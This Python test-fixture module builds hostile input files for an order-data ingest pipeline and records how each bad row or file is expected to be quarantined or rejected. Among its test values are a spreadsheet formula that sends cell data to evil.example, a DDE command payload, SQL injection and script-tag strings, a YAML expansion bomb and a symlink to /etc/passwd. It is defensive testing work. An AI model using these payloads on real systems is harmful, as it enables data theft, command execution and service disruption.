"""Hand-made hostile landing files: each kind of bad input a merchant or an attacker can send.

Every file carries a few good lines among its bad ones, with order ids
`HX-<kind>-<n>`, so a test can tell exactly which good lines of a file with a
bad line were kept. `good_rows` is how many of those must reach raw; the
`outcome` is what the ingest must do with the file as a whole:

- loaded: its good lines load, each bad line is its own quarantine row;
- rejected: the file cannot be read as its feed (or must not be read), so
  nothing of it loads and it is moved aside with a reason;
- ignored: not a feed file at all (a hidden file), never in the ledger.

`sees` is what a merchant sees for the kind, as the docs and the closing note
tell it. The corpus is plain data so a fast ingest-level test and one whole
run of the job can share it.
"""
from __future__ import annotations

import datetime as dt
import io
import json
from dataclasses import dataclass, field
from pathlib import Path

import pandas as pd

HEADER = "order_id,line_id,ordered_at,channel,customer_id,sku,quantity,unit_price,currency,ship_to_country,fulfilment_node"
ORDER_COLUMNS = HEADER.split(",")
SYSTEM_FILE = Path("/etc/passwd")  # what a link out of landing must never put anywhere
SYSTEM_FILE_MARK = "root:"


@dataclass(frozen=True)
class Merchant:
    """The facts a good line needs to be good for the merchant it lands at."""

    sku: str
    node: str
    country: str
    currency: str
    day: dt.date  # the day the hostile files speak for (their file date)
    unknown_node: str = "XX-NOWHERE"


@dataclass(frozen=True)
class Hostile:
    kind: str
    path: str  # relative to the landing folder
    content: bytes | None  # None for a symbolic link
    good_rows: int
    outcome: str  # loaded | rejected | ignored
    sees: str
    bad_rows: int | None = None  # quarantined lines, when the count is fixed by the kind
    link_to: str | None = None  # for a symbolic link: "outside" (a good file outside landing), "system", "dir"
    extra: dict = field(default_factory=dict)


def line(m: Merchant, kind: str, n: int, **changes: str) -> str:
    """One good order line of the kind's file, with any field changed to a bad value."""
    values = {
        "order_id": f"HX-{kind}-{n}",
        "line_id": "1",
        "ordered_at": f"{m.day - dt.timedelta(days=1)}T10:{n % 60:02d}:00+00:00",
        "channel": "web",
        "customer_id": f"HXC{n:04d}",
        "sku": m.sku,
        "quantity": "1",
        "unit_price": "19.90",
        "currency": m.currency,
        "ship_to_country": m.country,
        "fulfilment_node": m.node,
    }
    values.update(changes)
    return ",".join(values[c] for c in ORDER_COLUMNS)


def good_lines(m: Merchant, kind: str, count: int, start: int = 1) -> list[str]:
    return [line(m, kind, n) for n in range(start, start + count)]


def csv_bytes(lines: list[str], header: str = HEADER, newline: str = "\n") -> bytes:
    return (newline.join([header, *lines]) + newline).encode("utf-8")


def orders_path(kind: str, m: Merchant, suffix: str = ".csv") -> str:
    return f"orders/orders_hx_{kind}_{m.day.isoformat()}{suffix}"


def _bad_line_file(m: Merchant, kind: str, bad: str, sees: str, before: int = 2, after: int = 2, outcome: str = "loaded") -> Hostile:
    """A CSV with good lines around one bad line."""
    lines = good_lines(m, kind, before) + [bad] + good_lines(m, kind, after, start=before + 1)
    return Hostile(kind, orders_path(kind, m), csv_bytes(lines), before + after, outcome, sees, bad_rows=1)


def row_value_kinds(m: Merchant) -> list[Hostile]:
    """One bad value in one line; the contract or the plausibility checks quarantine it."""
    bad = {
        "date_2999": ({"ordered_at": "2999-12-31T10:00:00+00:00"}, "quarantined: implausible_date (after the file's date)"),
        "date_1900": ({"ordered_at": "1900-01-01T10:00:00+00:00"}, "quarantined: implausible_date (before the merchant's history)"),
        "date_after_file": (
            {"ordered_at": f"{m.day + dt.timedelta(days=5)}T10:00:00+00:00"}, "quarantined: implausible_date (after the file's date)"
        ),
        "unknown_node": ({"fulfilment_node": m.unknown_node}, "quarantined: unknown_node, the reason lists the configured nodes"),
        "bad_channel": ({"channel": "telepathy"}, "quarantined: not_allowed"),
        "zero_quantity": ({"quantity": "0"}, "quarantined: zero_quantity"),
        "fraction_quantity": ({"quantity": "1.5"}, "quarantined: bad_type (integer)"),
        "text_quantity": ({"quantity": "lots"}, "quarantined: bad_type (integer)"),
        "huge_quantity": ({"quantity": "999999999999"}, "quarantined: out_of_range (the learned plausible quantity)"),
        "overflow_line_id": ({"line_id": "99999999999999999999999999"}, "quarantined: bad_type (integer)"),
        "zero_line_id": ({"line_id": "0"}, "quarantined: out_of_range"),
        "negative_price": ({"unit_price": "-5"}, "quarantined: out_of_range"),
        "nan_price": ({"unit_price": "NaN"}, "quarantined: bad_type or out_of_range"),
        "bad_currency": ({"currency": "EURO"}, "quarantined: not_allowed"),
        "bad_country": ({"ship_to_country": "ZZ"}, "quarantined: not_allowed"),
        "word_timestamp": ({"ordered_at": "yesterday"}, "quarantined: bad_type (timestamptz)"),
        "no_timezone": ({"ordered_at": f"{m.day}T10:00:00"}, "quarantined: missing_timezone"),
        "missing_sku": ({"sku": ""}, "quarantined: missing_value"),
        "formula_channel": ({"channel": "=HYPERLINK(\"http://evil.example/?\"&A1)"}, "quarantined: not_allowed; exported with a leading '"),
        "formula_at_currency": ({"currency": "@SUM(1+1)"}, "quarantined: not_allowed; exported with a leading '"),
        "formula_plus_country": ({"ship_to_country": "+cmd|' /C calc'!A0"}, "quarantined: not_allowed; exported with a leading '"),
    }
    return [_bad_line_file(m, kind, line(m, kind, 90, **changes), sees) for kind, (changes, sees) in bad.items()]


def hostile_text_kinds(m: Merchant) -> list[Hostile]:
    """Text that looks like code or breaks naive tooling, in otherwise valid lines: all load as text."""
    texts = {
        "sql_in_sku": "x'); drop table raw.orders; --",
        "sql_in_order_id": None,
        "emoji_sku": "TENT-🏕️-01",
        "zero_width_sku": "ELA\u200b-00001",
        "long_sku": "S" * 10_000,
        "html_sku": "<script>alert(1)</script>",
        "jinja_sku": "{{ 7*7 }}{% raw %}",
    }
    out = []
    for kind, sku in texts.items():
        changes = {"sku": f'"{sku}"'} if sku is not None else {"order_id": f"HX-{kind}-1' or '1'='1"}
        lines = [line(m, kind, 1, **changes)] + good_lines(m, kind, 2, start=2)
        # the changed line is good too: its text loads as text
        out.append(Hostile(kind, orders_path(kind, m), csv_bytes(lines), 3, "loaded", "loaded as text, nothing runs", bad_rows=0))
    return out


def structure_kinds(m: Merchant) -> list[Hostile]:
    """Broken CSV structure: ragged lines, quotes, NUL bytes, duplicate columns, odd layouts."""
    k = "ragged_long"
    out = [
        _bad_line_file(m, k, line(m, k, 90) + ",extra,fields", "quarantined: the line has too many fields, with its line number"),
    ]
    k = "ragged_short"
    out.append(_bad_line_file(m, k, ",".join(line(m, k, 90).split(",")[:5]), "quarantined: the line has too few fields, with its line number"))
    k = "ragged_deep"
    many = good_lines(m, k, 30_000)
    out.append(
        Hostile(
            k, orders_path(k, m), csv_bytes(many + [line(m, k, 99_999) + ",x"] + good_lines(m, k, 2, start=30_001)), 30_002,
            "loaded", "quarantined: the one ragged line 30,002 lines down; the rest loads", bad_rows=1,
        )
    )
    k = "ragged_first"
    out.append(_bad_line_file(m, k, line(m, k, 90) + ",extra", "quarantined: the first data line is ragged", before=0, after=4))
    k = "unterminated_quote"
    out.append(
        _bad_line_file(m, k, line(m, k, 90, sku='"OPEN-QUOTE'), "quarantined or rejected: an unterminated quote", before=3, after=0)
    )
    k = "nul_in_key"
    out.append(_bad_line_file(m, k, line(m, k, 90, order_id=f"HX-{k}-9\x000"), "quarantined: a NUL byte in order_id"))
    k = "nul_in_sku"
    out.append(_bad_line_file(m, k, line(m, k, 90, sku="SK\x00U"), "quarantined: a NUL byte in sku"))
    k = "huge_line"
    out.append(
        _bad_line_file(
            m, k, line(m, k, 90, sku="H" * 3_000_000), "the 3 MB line is its own row with its true line number; stored shortened",
            before=3, after=1,
        )
    )
    k = "duplicate_columns"
    out.append(
        Hostile(k, orders_path(k, m), csv_bytes(good_lines(m, k, 3), header=HEADER + ",sku"), 0, "rejected",
                "rejected: the column sku appears twice")
    )
    k = "duplicate_key_in_file"
    dup = good_lines(m, k, 3) + [line(m, k, 3, quantity="2")]
    out.append(Hostile(k, orders_path(k, m), csv_bytes(dup), 3, "loaded", "quarantined: duplicate_key, the later line wins", bad_rows=1))
    k = "quoted_newline"
    out.append(
        Hostile(k, orders_path(k, m), csv_bytes([line(m, k, 1, sku='"TWO\nLINES"')] + good_lines(m, k, 2, start=2)), 3, "loaded",
                "loaded: a quoted newline is part of the value", bad_rows=0)
    )
    return out


def layout_kinds(m: Merchant) -> list[Hostile]:
    """Valid data in layouts real tools write: every line loads."""
    rows = good_lines
    out = []

    def add(kind: str, content: bytes, sees: str, suffix: str = ".csv", count: int = 3) -> None:
        out.append(Hostile(kind, orders_path(kind, m, suffix), content, count, "loaded", sees, bad_rows=0))

    add("crlf", csv_bytes(rows(m, "crlf", 3), newline="\r\n"), "loaded")
    add("utf8_bom", b"\xef\xbb\xbf" + csv_bytes(rows(m, "utf8_bom", 3)), "loaded")
    add("utf16", ("\n".join([HEADER, *rows(m, "utf16", 3)]) + "\n").encode("utf-16"), "loaded")
    accented = [line(m, "latin1", 1, sku="ÉTÉ-01")] + rows(m, "latin1", 2, start=2)
    add("latin1", ("\n".join([HEADER, *accented]) + "\n").encode("latin-1"), "loaded: read as Windows-1252")
    add("semicolon", ("\n".join(r.replace(",", ";") for r in [HEADER, *rows(m, "semicolon", 3)]) + "\n").encode(), "loaded")
    add("tab", ("\n".join(r.replace(",", "\t") for r in [HEADER, *rows(m, "tab", 3)]) + "\n").encode(), "loaded", suffix=".tsv")
    add("blank_lines", csv_bytes(rows(m, "blank_lines", 3)) + b"\n\n\n", "loaded")
    add("upper_header", csv_bytes(rows(m, "upper_header", 3), header=HEADER.upper()), "loaded")
    shuffled = ORDER_COLUMNS[::-1]
    reordered = [",".join(reversed(r.split(","))) for r in rows(m, "reordered", 3)]
    add("reordered", csv_bytes(reordered, header=",".join(shuffled)), "loaded")
    add("extra_column", csv_bytes([r + ",hello" for r in rows(m, "extra_column", 3)], header=HEADER + ",note"), "loaded")
    padded = [",".join(f"  {v}  " for v in r.split(",")) for r in rows(m, "padded", 3)]
    add("padded", csv_bytes(padded), "loaded: values are trimmed")
    add("header_only", csv_bytes([]), "loaded: no rows", count=0)
    return out


def whole_file_kinds(m: Merchant) -> list[Hostile]:
    """Files that cannot be read as their feed at all: moved to landing/rejected with a reason."""
    garbage = bytes((i * 131 + 7) % 256 for i in range(4096))
    missing = HEADER.replace(",sku", "")
    out = [
        Hostile("empty", orders_path("empty", m), b"", 0, "rejected", "rejected: the file is empty"),
        Hostile("binary", orders_path("binary", m), garbage, 0, "rejected", "rejected: not text"),
        Hostile(
            "missing_column", orders_path("missing_column", m),
            csv_bytes([",".join(v for i, v in enumerate(r.split(",")) if i != 5) for r in good_lines(m, "missing_column", 3)], header=missing),
            0, "rejected", "rejected: missing required columns: sku",
        ),
        Hostile("xlsx", orders_path("xlsx", m, ".xlsx"), b"PK\x03\x04not really", 0, "rejected", "rejected: unsupported file type"),
        Hostile("no_contract", f"orders/sales_hx_{m.day}.csv", csv_bytes(good_lines(m, "no_contract", 2)), 0, "rejected",
                "rejected: no orders contract matches the file name"),
        Hostile("hidden", f"orders/.orders_hx_hidden_{m.day}.csv", csv_bytes(good_lines(m, "hidden", 2)), 0, "ignored",
                "ignored: hidden files are not feed files"),
    ]
    return out


def name_kinds(m: Merchant) -> list[Hostile]:
    """Odd file names: globs, spaces, unicode, a future date."""
    out = []
    for kind, name in {
        "glob_name": f"orders_hx_*_{m.day}.csv",
        "space_name": f"orders hx space {m.day}.csv",
        "unicode_name": f"orders_hx_ünïcödé_{m.day}.csv",
        "dotdot_name": f"orders_hx_..{m.day}.csv",
    }.items():
        out.append(Hostile(kind, f"orders/{name}", csv_bytes(good_lines(m, kind, 2)), 2, "loaded", "loaded", bad_rows=0))
    k = "future_file_date"
    out.append(
        Hostile(k, "orders/orders_hx_future_2099-01.csv", csv_bytes(good_lines(m, k, 2)), 2, "loaded",
                "loaded as of today, the ledger says the name's date was in the future", bad_rows=0)
    )
    return out


def json_kinds(m: Merchant) -> list[Hostile]:
    """JSON Lines and Parquet orders, good and broken."""
    def record(kind: str, n: int) -> dict:
        return dict(zip(ORDER_COLUMNS, line(m, kind, n).split(",")))

    def jsonl(kind: str, count: int) -> list[str]:
        return [json.dumps(record(kind, n)) for n in range(1, count + 1)]

    out = [
        Hostile("jsonl_good", orders_path("jsonl_good", m, ".jsonl"), ("\n".join(jsonl("jsonl_good", 3)) + "\n").encode(), 3, "loaded",
                "loaded", bad_rows=0),
        Hostile("jsonl_truncated_last", orders_path("jsonl_truncated_last", m, ".jsonl"),
                ("\n".join(jsonl("jsonl_truncated_last", 4)))[:-25].encode(), 3, "loaded",
                "quarantined: the truncated last line; the others load", bad_rows=1),
        Hostile("jsonl_garbage_line", orders_path("jsonl_garbage_line", m, ".jsonl"),
                "\n".join(jsonl("jsonl_garbage_line", 2) + ["this is not json"] + jsonl("jsonl_garbage_line", 4)[2:]).encode() + b"\n",
                4, "loaded", "quarantined: the line that is not JSON", bad_rows=1),
        Hostile("jsonl_array_line", orders_path("jsonl_array_line", m, ".jsonl"),
                "\n".join(jsonl("jsonl_array_line", 2) + ["[1, 2, 3]"] + jsonl("jsonl_array_line", 3)[2:]).encode() + b"\n",
                3, "loaded", "quarantined: a line that is not a JSON object", bad_rows=1),
    ]
    frame = pd.DataFrame([record("parquet_good", n) for n in (1, 2, 3)])
    buffer = io.BytesIO()
    frame.to_parquet(buffer, index=False)
    out.append(Hostile("parquet_good", orders_path("parquet_good", m, ".parquet"), buffer.getvalue(), 3, "loaded", "loaded", bad_rows=0))
    out.append(Hostile("parquet_truncated", orders_path("parquet_truncated", m, ".parquet"), buffer.getvalue()[:200], 0, "rejected",
                       "rejected: cannot read the Parquet file"))
    return out


def link_kinds(m: Merchant) -> list[Hostile]:
    """Symbolic links out of the landing folder: never followed, never quoted."""
    return [
        Hostile("link_outside", orders_path("link_outside", m), None, 0, "rejected",
                "rejected: a symbolic link, without its target", link_to="outside"),
        Hostile("link_system", orders_path("link_system", m), None, 0, "rejected",
                "rejected: a symbolic link; nothing of the target is read or quoted", link_to="system"),
        Hostile("link_dir", "orders/hx_linked_source", None, 0, "rejected",
                "a linked source folder is not followed", link_to="dir"),
    ]


def mapping_kinds(m: Merchant) -> list[Hostile]:
    """A source folder whose mapping.yaml is a YAML bomb: its files are rejected with the mapping's problem."""
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)},"
        f"*{chr(97 + i)},*{chr(97 + i)},*{chr(97 + i)}]\n"
        for i in range(8)
    )
    return [
        Hostile("yaml_bomb_mapping", f"orders/hx_bomb/export_{m.day}.csv", csv_bytes(good_lines(m, "yaml_bomb_mapping", 2)), 0,
                "rejected", "rejected: bad mapping", extra={"mapping": bomb}),
    ]


def other_feed_kinds(m: Merchant) -> list[Hostile]:
    """Bad lines in the other feeds: quarantined there, the plan still runs."""
    inv_header = "snapshot_date,node,sku,on_hand"
    day = m.day.isoformat()
    return [
        Hostile("inventory_nul", f"inventory/inventory_hx_nul_{day}.csv",
                f"{inv_header}\n{day},{m.node},{m.sku}\x00X,5\n{day},{m.node},HX-INV-1,5\n".encode(), 1, "loaded",
                "quarantined: a NUL byte in sku", bad_rows=1, extra={"dataset": "inventory_snapshots", "key": "sku"}),
        Hostile("tracking_truncated", f"carriers/tracking_hx_{day}.jsonl",
                (json.dumps({"event_id": "HX-EV-1", "shipment_id": "HX-S", "carrier": "x", "service": "y", "origin_node": m.node,
                             "origin_country": m.country, "destination_country": m.country, "event_type": "delivered",
                             "event_at": f"{day}T10:00:00+00:00"}) + "\n{\"event_id\": \"HX-EV-2\", \"shipm").encode(),
                1, "loaded", "quarantined: the truncated last line", bad_rows=1,
                extra={"dataset": "carrier_events", "key": "event_id"}),
    ]


def corpus(m: Merchant) -> list[Hostile]:
    """Every hostile file, one per kind; kinds are unique so each file's good lines can be counted."""
    files = (
        row_value_kinds(m) + hostile_text_kinds(m) + structure_kinds(m) + layout_kinds(m) + whole_file_kinds(m)
        + name_kinds(m) + json_kinds(m) + link_kinds(m) + mapping_kinds(m) + other_feed_kinds(m)
    )
    kinds = [h.kind for h in files]
    assert len(kinds) == len(set(kinds)), "each kind once"
    return files


def write(hostile: Hostile, landing: Path, outside: Path, m: Merchant) -> Path:
    """Put one hostile file into the landing folder (links point outside it); returns its path."""
    path = landing / hostile.path
    path.parent.mkdir(parents=True, exist_ok=True)
    if hostile.link_to is None:
        if "mapping" in hostile.extra:
            (path.parent / "mapping.yaml").write_text(hostile.extra["mapping"], encoding="utf-8")
        path.write_bytes(hostile.content or b"")
        return path
    outside.mkdir(parents=True, exist_ok=True)
    if hostile.link_to == "outside":
        target = outside / f"orders_outside_{m.day}.csv"
        target.write_bytes(csv_bytes(good_lines(m, hostile.kind, 3)))
    elif hostile.link_to == "system":
        target = SYSTEM_FILE
    else:
        target = outside / "linked_source"
        target.mkdir(exist_ok=True)
        (target / f"orders_linked_{m.day}.csv").write_bytes(csv_bytes(good_lines(m, hostile.kind, 3)))
    path.symlink_to(target)
    return path
